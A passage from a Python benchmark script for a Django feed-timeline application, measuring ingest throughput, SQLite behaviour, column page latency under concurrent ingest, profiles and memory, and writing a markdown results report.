    worker threads beside the web server in one process. Also times `polling.mark_watched`,
    the view's writes, to show the waits for SQLite's write lock."""
    import threading

    from django.db import connection as db
    from django.test import Client
    from django.urls import reverse

    from hubbub.timeline import polling
    from hubbub.timeline.ingest import ingest

    stop = threading.Event()
    ingested = {"items": 0, "seconds": 0.0, "in_ingest": 0.0, "batches": 0}
    failure: list[BaseException] = []

    def work() -> None:
        rng = gen.rng
        now = datetime.now(UTC)
        try:
            started = time.perf_counter()
            n = 0
            while not stop.is_set():
                account = accounts[n % len(accounts)]
                n += 1
                size = rng.randint(args.batch_min, args.batch_max)
                # New posts of the last minutes, newest first, as a poll brings them.
                whens = sorted((now - timedelta(seconds=rng.uniform(0, 3600))
                                for _ in range(size)), reverse=True)
                batch = [gen.item(account, when) for when in whens]
                t0 = time.perf_counter()
                result = ingest(account.feed, batch)
                ingested["in_ingest"] += time.perf_counter() - t0
                ingested["items"] += len(result.new_item_ids)
                ingested["batches"] += 1
                if pause:
                    stop.wait(pause)
            ingested["seconds"] = time.perf_counter() - started
        except BaseException as exc:  # reported by the main thread
            failure.append(exc)
        finally:
            db.close()

    watched_ms: list[float] = []
    real_mark_watched = polling.mark_watched

    def timed_mark_watched(feeds: Any) -> None:
        t0 = time.perf_counter()
        real_mark_watched(feeds)
        watched_ms.append((time.perf_counter() - t0) * 1000)

    client = Client(SERVER_NAME="localhost")
    client.force_login(user)
    url = reverse("timeline:column", args=[column.pk])
    thread = threading.Thread(target=work, name="bench-ingest", daemon=True)
    polling.mark_watched = timed_mark_watched
    load = load_average()
    try:
        thread.start()
        time.sleep(0.5)
        wall, cpu = timed(lambda _i: client.get(url), args.requests, args.warmup)
    finally:
        stop.set()
        thread.join()
        polling.mark_watched = real_mark_watched
    if failure:
        raise failure[0]
    watched = sorted(watched_ms[args.warmup:])
    extra = {
        "items": ingested["items"], "batches": ingested["batches"],
        "pause": pause,
        "items_per_s": ingested["items"] / max(ingested["seconds"], 1e-9),
        "batch_ms": 1000 * ingested["in_ingest"] / max(ingested["batches"], 1),
        "mark_watched_p50": statistics.median(watched),
        "mark_watched_p95": statistics.quantiles(watched, n=100, method="inclusive")[94],
        "mark_watched_max": watched[-1],
    }
    timing = Timing(name, wall, cpu, load=(load, load_average()))
    row = timing.summary()
    log(f"{timing.name:<46} p50 {row['p50']:6.2f}  p95 {row['p95']:6.2f}  "
        f"p99 {row['p99']:6.2f} ms   cpu p50 {row['cpu_p50']:6.2f}; ingest beside it "
        f"{extra['items_per_s']:,.0f} items/s; mark_watched p95 {extra['mark_watched_p95']:.1f}"
        f" max {extra['mark_watched_max']:.1f} ms")
    return timing, extra


# --- the database ---------------------------------------------------------------------------------


def database_facts(path: Path) -> dict[str, Any]:
    from django.db import connection as db

    with db.cursor() as cursor:
        cursor.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        cursor.execute("PRAGMA journal_mode")
        journal = cursor.fetchone()[0]
        cursor.execute("PRAGMA page_size")
        page_size = cursor.fetchone()[0]
        sizes: list[tuple[str, int]] = []
        with contextlib.suppress(Exception):
            cursor.execute("SELECT name, SUM(pgsize) FROM dbstat GROUP BY name "
                           "ORDER BY SUM(pgsize) DESC LIMIT 8")
            sizes = [(name, int(size)) for name, size in cursor.fetchall()]
    wal = path.with_name(path.name + "-wal")
    return {
        "file_bytes": path.stat().st_size,
        "wal_bytes": wal.stat().st_size if wal.exists() else 0,
        "journal_mode": journal,
        "page_size": page_size,
        "largest": sizes,
    }


# --- profiles -------------------------------------------------------------------------------------


@contextlib.contextmanager
def profiler(directory: Path, name: str) -> Iterator[None]:
    """pyinstrument when it is installed, else cProfile; the report goes to directory/name.*"""
    try:
        from pyinstrument import Profiler  # type: ignore[import-not-found]
    except ImportError:
        Profiler = None
    if Profiler is not None:
        prof = Profiler(interval=0.0005)
        prof.start()
        try:
            yield
        finally:
            prof.stop()
            (directory / f"{name}.txt").write_text(
                prof.output_text(unicode=True, color=False, show_all=False))
            (directory / f"{name}.html").write_text(prof.output_html())
        return
    profile = cProfile.Profile()
    profile.enable()
    try:
        yield
    finally:
        profile.disable()
        profile.dump_stats(directory / f"{name}.pstats")
        out = io.StringIO()
        stats = pstats.Stats(profile, stream=out).strip_dirs()
        stats.sort_stats("cumulative").print_stats(45)
        stats.sort_stats("tottime").print_stats(30)
        (directory / f"{name}.txt").write_text(out.getvalue())


def run_ingest_profile(directory: Path, accounts: Sequence[Account], gen: Generator,
                       args: argparse.Namespace) -> None:
    """~20,000 more items of one account through ingest, profiled."""
    from hubbub.timeline.ingest import ingest

    directory.mkdir(parents=True, exist_ok=True)
    account = accounts[0]
    account.total += 20_000
    batches = []
    while account.made < account.total:
        size = min(gen.rng.randint(args.batch_min, args.batch_max), account.total - account.made)
        batches.append(make_batch(account, size, gen, args.overlap))
    with profiler(directory, "ingest"):
        for batch in batches:
            ingest(account.feed, batch)


def run_profiles(directory: Path, user: Any, single: Any, merged: Any,
                 accounts: Sequence[Account], gen: Generator, args: argparse.Namespace) -> None:
    """After the timed phases: ~20,000 more items through ingest, and column requests."""
    from django.test import Client
    from django.urls import reverse

    run_ingest_profile(directory, accounts, gen, args)
    client = Client(SERVER_NAME="localhost")
    client.force_login(user)
    for name, column in (("single", single), ("merged", merged)):
        url = reverse("timeline:column", args=[column.pk])
        for _ in range(20):
            client.get(url)
        with profiler(directory, f"column-{name}"):
            for _ in range(200):
                client.get(url)
    log(f"profiles written to {directory}")


# --- report ---------------------------------------------------------------------------------------


def markdown(result: dict[str, Any]) -> str:
    m = result["machine"]
    ing = result["ingest"]
    db = result["database"]
    lines = [
        f"Run {m['date']} on {m['nproc']} CPUs ({m['cpu']}), {m['memory_gib']} GiB RAM, "
        f"Linux {m['kernel']}; Python {m['python']}, Django {m['django']}, "
        f"SQLite {m['sqlite']}, nh3 {m['nh3']}; commit {m['commit']}.",
        "",
        f"Command: `{result['command']}`",
        "",
        "| target | measured | target | ratio (target / measured) | |",
        "|---|---:|---:|---:|---|",
    ]
    for row in result["targets"]:
        lines.append(f"| {row['what']} | {row['measured']} | {row['target']} | "
                     f"{row['ratio']:.2f}x | {'met' if row['met'] else '**missed**'} |")
    lines += [
        "",
        "Ingest:",
        "",
        "| | |",
        "|---|---:|",
        f"| new items stored | {ing['new']:,} |",
        f"| throughput (new items / seconds inside ingest()) | "
        f"**{ing['items_per_s']:,.0f} items/s** |",
        f"| new items / CPU seconds inside ingest() | {ing['cpu_items_per_s']:,.0f} items/s |",
        f"| seconds inside ingest(): on a CPU / waiting for a CPU / other waits (I/O, locks) | "
        f"{ing['cpu_seconds']:.1f} / {ing['cpu_wait_seconds']:.1f} / "
        f"{ing['seconds'] - ing['cpu_seconds'] - ing['cpu_wait_seconds']:.1f} |",
        f"| load average during ingest (min / mean / max) | {ing['load_min']:.1f} / "
        f"{ing['load_mean']:.1f} / {ing['load_max']:.1f} |",
        f"| items offered (incl. overlapping re-reads) | {ing['offered']:,} "
        f"({ing['offered_per_s']:,.0f}/s) |",
        f"| re-reads: changed / unchanged | {ing['updated']:,} / {ing['unchanged']:,} |",
        f"| batches (40-100 items + re-reads) | {ing['batches']:,} |",
        f"| batch time p50 / p95 / p99 / max | {ing['batch_p50_ms']:.1f} / "
        f"{ing['batch_p95_ms']:.1f} / {ing['batch_p99_ms']:.1f} / {ing['batch_max_ms']:.1f} ms |",
        f"| seconds in ingest / generating items (excluded) / wall | "
        f"{ing['seconds']:.1f} / {ing['generate_seconds']:.1f} / {ing['wall_seconds']:.1f} |",
        "",
        f"Column pages ({result['requests']} timed requests per case after "
        f"{result['warmup']} warm-up; {result['page_size']} items a page; deep pages cycle "
        f"through {result['cursors']['single']['count']} cursors at depth "
        f"{result['cursors']['single']['min_depth']:,}-{result['cursors']['single']['max_depth']:,}"
        f" of the single feed and {result['cursors']['merged']['min_depth']:,}-"
        f"{result['cursors']['merged']['max_depth']:,} of the merged one; times in ms):",
        "",
        "| case | p50 | p95 | p99 | mean | max | CPU p50 | CPU p95 | queries | HTML bytes "
        "| load |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for t in result["pages"]:
        size = f"{t['bytes']:,}" if t["bytes"] else "-"
        lines.append(f"| {t['name']} | {t['p50']:.2f} | {t['p95']:.2f} | {t['p99']:.2f} | "
                     f"{t['mean']:.2f} | {t['max']:.2f} | {t['cpu_p50']:.2f} | "
                     f"{t['cpu_p95']:.2f} | {t['queries']} | {size} | "
                     f"{t['load_before']:.1f} |")
    lines += [
        "",
        "While a worker thread in the same process ingests polls of 40-100 new items (as "
        "`hubbub serve` runs its worker beside the web server; times in ms; the last columns "
        "time the view's `mark_watched`: a read, and UPDATEs only when due, which wait for "
        "SQLite's write lock):",
        "",
        "| case | p50 | p95 | p99 | max | CPU p50 | ingested beside it | mark_watched p50 "
        "| p95 | max | load |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for d in result["during_ingest"]:
        lines.append(
            f"| {d['name']} | {d['p50']:.2f} | {d['p95']:.2f} | {d['p99']:.2f} | "
            f"{d['max']:.2f} | {d['cpu_p50']:.2f} | {d['items_per_s']:,.0f} items/s "
            f"({d['batch_ms']:.0f} ms a batch) | {d['mark_watched_p50']:.2f} | "
            f"{d['mark_watched_p95']:.2f} | {d['mark_watched_max']:.2f} | "
            f"{d['load_before']:.1f} |")
    largest = ", ".join(f"{name} {size / 2**20:,.0f} MiB" for name, size in db["largest"])
    lines += [
        "",
        f"Memory: peak RSS {result['peak_rss_mib']:,.0f} MiB (after migrate "
        f"{result['peak_rss_after_migrate_mib']:,.0f} MiB, after creating the user "
        f"{result['peak_rss_after_setup_mib']:,.0f} MiB: Django's Argon2 hasher uses 100 MiB, "
        f"as every login does); RSS after "
        f"ingest {result['rss_after_ingest_mib']:,.0f} MiB, after the page requests "
        f"{result['rss_after_pages_mib']:,.0f} MiB. "
        f"Database: {db['file_bytes'] / 2**20:,.0f} MiB "
        f"({db['file_bytes'] / max(ing['new'], 1):,.0f} bytes an item; WAL checkpointed, "
        f"journal_mode={db['journal_mode']}, page_size={db['page_size']})"
        + (f"; largest: {largest}." if largest else "."),
    ]
    return "\n".join(lines)


def targets(ingest_rate: float, pages: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    by_name = {p["name"]: p for p in pages}
    rows = []
    for what, name, target in (
        ("single-feed column page p95 (first page)", "single-feed column page, first page",
         TARGETS["column_p95_ms"]),
        ("single-feed column page p95 (deep pages)", "single-feed column page, deep pages",
         TARGETS["column_p95_ms"]),
        ("merged 5-feed column page p95 (first page)", "merged 5-feed column page, first page",
         TARGETS["merged_p95_ms"]),
        ("merged 5-feed column page p95 (deep pages)", "merged 5-feed column page, deep pages",
         TARGETS["merged_p95_ms"]),
    ):
        p95 = by_name[name]["p95"]
        rows.append({"what": what, "measured": f"{p95:.2f} ms", "target": f"<= {target:.0f} ms",
                     "ratio": target / p95, "met": p95 <= target})
    rows.append({"what": "ingest throughput", "measured": f"{ingest_rate:,.0f} items/s",
                 "target": f">= {TARGETS['ingest_items_per_s']:,.0f} items/s",
                 "ratio": ingest_rate / TARGETS["ingest_items_per_s"],
                 "met": ingest_rate >= TARGETS["ingest_items_per_s"]})
    return rows


# --- main -----------------------------------------------------------------------------------------


def parse(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--items", type=int, default=1_000_000, help="new items to ingest")
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--data-dir", type=Path, default=None,
                        help="an empty or new folder (kept afterwards); default: a temporary "
                             "folder, removed at the end unless --keep")
    parser.add_argument("--keep", action="store_true", help="keep the temporary data dir")
    parser.add_argument("--days", type=float, default=180.0, help="history the items span")
    parser.add_argument("--batch-min", type=int, default=40)
    parser.add_argument("--batch-max", type=int, default=100)
    parser.add_argument("--overlap", type=int, default=5,
                        help="at most this many items of an account's previous poll are read "
                             "again in the next one (0: none)")
    parser.add_argument("--requests", type=int, default=300, help="timed requests per case")
    parser.add_argument("--warmup", type=int, default=30)
    parser.add_argument("--cursors", type=int, default=50, help="deep-page cursors per column")
    parser.add_argument("--seed", type=int, default=20260101)
    parser.add_argument("--json", type=Path, default=None, help="also write the results here")
    parser.add_argument("--profile", type=Path, default=None,
                        help="afterwards, profile ingest and the column view into this folder")
    parser.add_argument("--ingest-only", action="store_true",
                        help="stop after the ingest phase (no pages): for quick iterations on "
                             "ingest; the report then has no page rows")
    args = parser.parse_args(argv)
    if args.connections < MERGED_FEEDS:
        parser.error(f"--connections must be at least {MERGED_FEEDS} (the merged column)")
    if args.items < args.connections * 400:
        parser.error("--items too small for deep pages: at least 400 a connection")
    if not 1 <= args.batch_min <= args.batch_max:
        parser.error("--batch-min must be between 1 and --batch-max")
    return args


def main(argv: Sequence[str] | None = None) -> int:
    args = parse(argv)
    temporary = args.data_dir is None
    data_dir = Path(tempfile.mkdtemp(prefix="hubbub-bench-")) if temporary else args.data_dir
    data_dir.mkdir(parents=True, exist_ok=True)
    if any(data_dir.iterdir()):
        raise SystemExit(f"{data_dir} is not empty: give a new or empty folder")
    os.environ["HUBBUB_DATA_DIR"] = str(data_dir)
    os.environ["HUBBUB_READ_NETWORKS"] = "0"
    os.environ["HUBBUB_LOG_LEVEL"] = os.environ.get("HUBBUB_LOG_LEVEL", "WARNING")
    os.environ["DJANGO_SETTINGS_MODULE"] = "hubbub.settings"
    os.environ.pop("DATABASE_URL", None)  # the default profile: SQLite in the data dir
    forbid_network()
    # A kill (SIGTERM) still removes the temporary data dir.
    signal.signal(signal.SIGTERM, lambda _sig, _frame: sys.exit(143))
    try:
        return run(args, data_dir)
    finally:
        if temporary and not args.keep:
            shutil.rmtree(data_dir, ignore_errors=True)
        elif temporary:
            log(f"data dir kept: {data_dir}")


def run(args: argparse.Namespace, data_dir: Path) -> int:
    import django

    django.setup()
    from django.conf import settings
    from django.core.management import call_command

    from hubbub.timeline import polling, views

    def no_network_reads(*_args: Any, **_kwargs: Any) -> int:
        raise NetworkUsed("bench: the column view asked the network for older items")

    polling.load_older = no_network_reads  # a short page would mean a bad cursor: fail loudly

    log(f"data dir {data_dir}")
    call_command("migrate", interactive=False, verbosity=0)
    rss_after_migrate = peak_rss_mib()
    db_path = Path(settings.DATABASES["default"]["NAME"])
    rng = random.Random(args.seed)
    start = datetime.now(UTC) - timedelta(days=args.days, hours=1)
    gen = Generator(rng, start, args.days)
    user, accounts = make_accounts(args.connections, rng, gen)
    peak_after_setup = peak_rss_mib()  # Argon2 hashing the user's password: ~100 MiB
    log(f"{args.connections} connections ({', '.join(sorted({a.network for a in accounts}))}); "
        f"ingesting {args.items:,} items over {args.days:.0f} days")

    gc.collect()
    stats = run_ingest(accounts, args, gen)
    rss_after_ingest = rss_mib()
    rate = stats.new / stats.seconds
    log(f"ingest done: {stats.new:,} new items in {stats.seconds:.1f} s = {rate:,.0f} items/s")
    if stats.new != args.items:
        raise SystemExit(f"expected {args.items} new items, stored {stats.new}")
    if args.ingest_only:
        print(f"ingest only: {stats.new:,} new items, {rate:,.0f} items/s, "
              f"{stats.new / stats.cpu_seconds:,.0f} per CPU second, "
              f"{stats.seconds:.1f} s in ingest() of which CPU {stats.cpu_seconds:.1f} s, "
              f"waiting for a CPU {stats.cpu_wait_seconds:.1f} s, other waits "
              f"{stats.seconds - stats.cpu_seconds - stats.cpu_wait_seconds:.1f} s; "
              f"load {statistics.fmean(stats.loads):.1f}")
        if args.profile is not None:
            run_ingest_profile(args.profile, accounts, gen, args)
        return 0

    _deck, single, merged = make_columns(user, accounts)
    gc.collect()
    pages, cursor_info = measure_pages(user, single, merged, args, rng)
    rss_after_pages = rss_mib()
    database = database_facts(db_path)
    during = []
    for name, pause in (("single-feed first page, one poll a second beside it", 1.0),
                        ("single-feed first page, ingest without pause beside it", 0.0)):
        timing, extra = measure_during_ingest(user, single, accounts, gen, args, name, pause)
        during.append({**timing.summary(), **extra})

    batch = sorted(stats.batch_ms)
    q = statistics.quantiles(batch, n=100, method="inclusive")
    page_summaries = [t.summary() for t in pages]
    command = "uv run python bench/deck.py" + (
        f" --items {args.items}" if args.items != 1_000_000 else "") + (
        f" --connections {args.connections}" if args.connections != 20 else "")
    result: dict[str, Any] = {
        "machine": machine(),
        "command": command,
        "args": {k: str(v) if isinstance(v, Path) else v for k, v in vars(args).items()},
        "ingest": {
            "new": stats.new, "offered": stats.offered, "updated": stats.updated,
            "unchanged": stats.unchanged, "skipped": stats.skipped, "batches": stats.batches,
            "seconds": stats.seconds, "cpu_seconds": stats.cpu_seconds,
            "cpu_wait_seconds": stats.cpu_wait_seconds,
            "cpu_items_per_s": stats.new / stats.cpu_seconds,
            "load_min": min(stats.loads), "load_max": max(stats.loads),
            "load_mean": statistics.fmean(stats.loads),
            "generate_seconds": stats.generate_seconds,
            "wall_seconds": stats.wall_seconds, "items_per_s": rate,
            "offered_per_s": stats.offered / stats.seconds,
            "batch_p50_ms": statistics.median(batch), "batch_p95_ms": q[94],
            "batch_p99_ms": q[98], "batch_max_ms": batch[-1],
        },
        "requests": args.requests, "warmup": args.warmup,
        "page_size": views.PAGE_SIZE,
        "cursors": cursor_info,
        "pages": page_summaries,
        "during_ingest": during,
        "database": database,
        "peak_rss_after_migrate_mib": rss_after_migrate,
        "peak_rss_after_setup_mib": peak_after_setup,
        "rss_after_ingest_mib": rss_after_ingest,
        "rss_after_pages_mib": rss_after_pages,
        "peak_rss_mib": peak_rss_mib(),
    }
    result["targets"] = targets(rate, page_summaries)
    if args.profile is not None:
        run_profiles(args.profile, user, single, merged, accounts, gen, args)
    text = markdown(result)
    print(text)
    if args.json is not None:
        args.json.write_text(json.dumps(result, indent=2, default=str))
        log(f"results written to {args.json}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
